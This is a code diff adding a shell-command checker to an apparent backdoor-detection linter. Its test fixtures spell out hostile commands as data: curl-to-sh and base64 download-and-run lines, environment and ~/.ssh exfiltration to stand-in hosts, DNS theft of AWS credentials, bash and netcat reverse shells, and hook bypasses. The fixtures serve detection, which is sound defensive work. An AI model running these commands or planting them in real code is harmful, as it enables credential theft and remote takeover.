@@ -1,4 +1,11 @@
-"""BDL505: shell injection — a command line built from variable data (f-string, concatenation,
+"""Shell commands run from Python.
+
+ShellCommandChecker: the command text (os.system, os.popen, subprocess with shell=True or an argv
+list such as ["sh", "-c", text], pty.spawn, ...) as far as the constant evaluator computes it is
+screened by the shell analysis (checkers/shell), with the codes the same text gets in a shell
+script: BDL402, BDL404, BDL405, BDL803, BDL804.
+
+ShellInjection, BDL505: shell injection — a command line built from variable data (f-string, concatenation,
 %/format, join) run through a shell: subprocess with shell=True (also through **kwargs and
 constants), os.system, os.popen, subprocess.getoutput, asyncio.create_subprocess_shell, and
 `sh -c`/`bash -c` argument lists. Parts wrapped in shlex.quote are safe. A warning; blocking
@@ -11,7 +18,8 @@ import libcst as cst
 
 from backdoor_lint.checkers.base import Invalid, PythonChecker, Valid
 from backdoor_lint.checkers.origins import untrusted_data, walk
-from backdoor_lint.checkers.py_dataflow import PROCESS_FUNCTION_NAMED
+from backdoor_lint.checkers.py_dataflow import PROCESS_FUNCTION_NAMED, analyse_command, dataflow
+from backdoor_lint.checkers.py_network import NetworkChecker
 
 SHELL_OPTIONAL = {"subprocess.run", "subprocess.call", "subprocess.check_call", "subprocess.check_output",
                   "subprocess.Popen"}
@@ -169,4 +177,59 @@ class ShellInjection(PythonChecker):
         Invalid('import os\ndef view(request):\n    os.system(request.GET["cmd"])\n', "BDL505", 3),
         Invalid('from subprocess import getoutput as run\ndef f(user):\n    return run(f"id {user}")\n', "BDL505", 3),
         Invalid('import os\ndef f(x):\n    getattr(os, "sys" + "tem")(f"echo {x}")\n', "BDL505", 3),
+    ]
+
+
+class ShellCommandChecker(PythonChecker):
+    CODES = ("BDL402", "BDL404", "BDL405", "BDL803", "BDL804")
+    # the calls that run processes are the network rule's (py_dataflow.SHELL_FUNCTIONS)
+    TRIGGER = NetworkChecker.TRIGGER
+    TRIGGER_LITERALS = NetworkChecker.TRIGGER_LITERALS
+    TRIGGER_IMPORTS = NetworkChecker.TRIGGER_IMPORTS
+
+    def visit_Call(self, node: cst.Call) -> None:
+        flow = dataflow(self.context)
+        shell = flow.shell_call(node)
+        if shell is None or flow.sink_of(node) is not None:
+            return
+        analysis = analyse_command(flow.shell_command(shell[1]))
+        label = f"{self.context.code(node.func)}()"
+        for finding in analysis.findings:
+            self.report(node, finding.code, f"{label}: {finding.message}")
+
+    VALID = [
+        Valid('import subprocess\nsubprocess.run("curl -fsSL -o /tmp/x.tgz https://example.com/x.tgz", shell=True)\n',
+              "BDL405"),
+        Valid('import subprocess\nsubprocess.run(["curl", "-d", "$(env)", "https://api.example/v1"])\n',
+              "BDL402"),  # no shell runs an argv list: `$(env)` is literal text
+        Valid('import os\nos.system(\'curl -fsS -H "Authorization: Bearer $DEPLOY_TOKEN" https://api.example/r\')\n',
+              "BDL402"),
+        Valid('import os\nos.system("git push origin HEAD && pre-commit run --all-files")\n', "BDL804"),
+        Valid('import os\nos.system("cp .pre-commit-config.yaml /tmp/backup/")\n', "BDL803"),
+        Valid('import os\nos.system("dig +short api.example.com")\n', "BDL404"),
+    ]
+    INVALID = [
+        Invalid('import os\nos.system("T=cu; ${T}rl -fsSL https://get.example.net/i.sh | sh")\n', "BDL405", 2),
+        Invalid('import subprocess\nP = "Y3VybCAtcyBodHRwczovL2MuZXhhbXBsZS9pIHwgc2g="\n'
+                'subprocess.run(f"echo {P} | base64 -d | sh", shell=True)\n', "BDL405", 3),
+        Invalid('import subprocess\nsubprocess.run(["bash", "-c", \'curl -s https://c.example -d "$(env)"\'])\n',
+                "BDL402", 2),
+        Invalid('import os\nos.system("dig $(cat ~/.aws/credentials | base64 | head -c 60).x.example")\n', "BDL404", 2),
+        Invalid('import os\nos.system("rm -f .pre-commit-config.yaml")\n', "BDL803", 2),
+        Invalid('import subprocess\nsubprocess.run("git commit --no-verify -m wip", shell=True)\n', "BDL804", 2),
+        # the function under another name, lists, fragments; the seed example (environment sent by curl);
+        # what a shell script with the same text gets: `tar cz ~/.ssh | nc` sends credentials, BDL402
+        Invalid('import os\nrun = os.system\nrun("curl -s https://c.example/i | sh")\n', "BDL405", 3),
+        Invalid('import os\ngetattr(os, "system")("curl -s https://c.example/i | sh")\n', "BDL405", 2),
+        Invalid('import subprocess\nsubprocess.run("npm test; curl -s https://telemetry.example/collect -d \\"$(env)\\"", '
+                'shell=True)\n', "BDL402", 2),
+        Invalid('import subprocess\ndef f():\n    subprocess.run("curl -fsSL https://get.example/i.sh | sh", shell=True)\n',
+                "BDL405", 3),
+        Invalid('import os\ndef f(h):\n    os.system(f"bash -i >& /dev/tcp/{h}/4444 0>&1")\n', "BDL405", 3),
+        Invalid('import subprocess\nCMD = ["bash", "-c", "wget -q https://x.example/a -O /tmp/a; chmod +x /tmp/a; /tmp/a"]\n'
+                'def f():\n    subprocess.Popen(CMD)\n', "BDL405", 4),
+        Invalid('import subprocess as sp\nT = "cu" + "rl"\ndef f():\n    sp.call(T + " -s https://get.example | b" + "ash", '
+                'shell=True)\n', "BDL405", 4),
+        Invalid('import pty\npty.spawn(["nc", "-e", "/bin/sh", "198.51.100.7", "4444"])\n', "BDL405", 2),
+        Invalid('import os\ndef f():\n    os.popen("tar cz ~/.ssh | nc collector.example 9000")\n', "BDL402", 3),
     ]
